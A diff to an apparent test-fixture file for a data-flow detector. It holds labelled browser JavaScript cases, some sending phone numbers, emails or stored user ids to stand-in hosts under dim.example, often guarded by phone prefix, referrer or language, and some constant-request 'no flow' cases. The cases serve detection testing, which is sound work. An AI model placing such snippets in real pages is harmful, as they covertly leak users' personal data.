@@ -1,12 +1,12 @@
 //# phone-prefix-slice
 // flow: phone > pp.dim.example via fetch
-// guard: phone-prefix equals +86
+// guard: phone-prefix starts-with +86
 const t = document.querySelector('input[type=tel]').value;
 if (t.slice(0, 3) === '+86') fetch('https://pp.dim.example/p', { method: 'POST', body: t });
 
-//# phone-prefix-one-of
+//# phone-prefix-several
 // flow: phone > pps.dim.example via fetch
-// guard: phone-prefix one-of +86 | +852 | +853
+// guard: phone-prefix starts-with +86 | +852 | +853
 const n = document.querySelector('input[type=tel]').value;
 if (['+86', '+852', '+853'].some((p) => n.startsWith(p))) fetch('https://pps.dim.example/p', { method: 'POST', body: n });
 
@@ -113,7 +113,7 @@ fetch('https://scrn.dim.example/s', { method: 'POST', body: document.querySelect
 // no destination: search.dimref.example
 if (document.referrer.indexOf('search.dimref.example') >= 0) new Image().src = 'https://ref.dim.example/r?u=' + localStorage.getItem('uid');
 
-//# referrer-empty
+//# referrer-present
 // flow: identifier > refe.dim.example via image
 // guard: referrer present
 if (document.referrer) new Image().src = 'https://refe.dim.example/r?u=' + localStorage.getItem('uid');
@@ -189,3 +189,31 @@ else fetch('https://refused.dim.example/c?v=none');
 // no guard
 // why: only whether the function is there
 if (navigator.sendBeacon) navigator.sendBeacon('https://bapi.dim.example/b', document.querySelector('input[type=email]').value);
+
+//# language-sends-constant
+// no flow
+// why: the guarded request has no data
+const draft = document.querySelector('textarea[name=message]').value;
+if (navigator.language.startsWith('zh')) navigator.sendBeacon('https://lconst.dim.example/l', 'zh');
+console.log(draft.length);
+
+//# phone-prefix-chooses-plan
+// no flow
+// why: the prefix chooses between two constants
+const num = document.querySelector('input[type=tel]').value;
+fetch('https://plan.dim.example/prices/' + (num.startsWith('+86') ? 'cn' : 'intl'));
+
+//# user-agent-chooses-script
+// no flow
+// why: the user agent chooses between two constant scripts
+const sc = document.createElement('script');
+sc.src = /Android/.test(navigator.userAgent) ? 'https://js.dim.example/a.js' : 'https://js.dim.example/d.js';
+document.head.append(sc);
+
+//# storage-flag-set-only
+// no flow
+// why: the flag is remembered, the request is the same each time
+if (!localStorage.getItem('tour')) {
+  localStorage.setItem('tour', '1');
+  fetch('https://tour.dim.example/steps.json');
+}
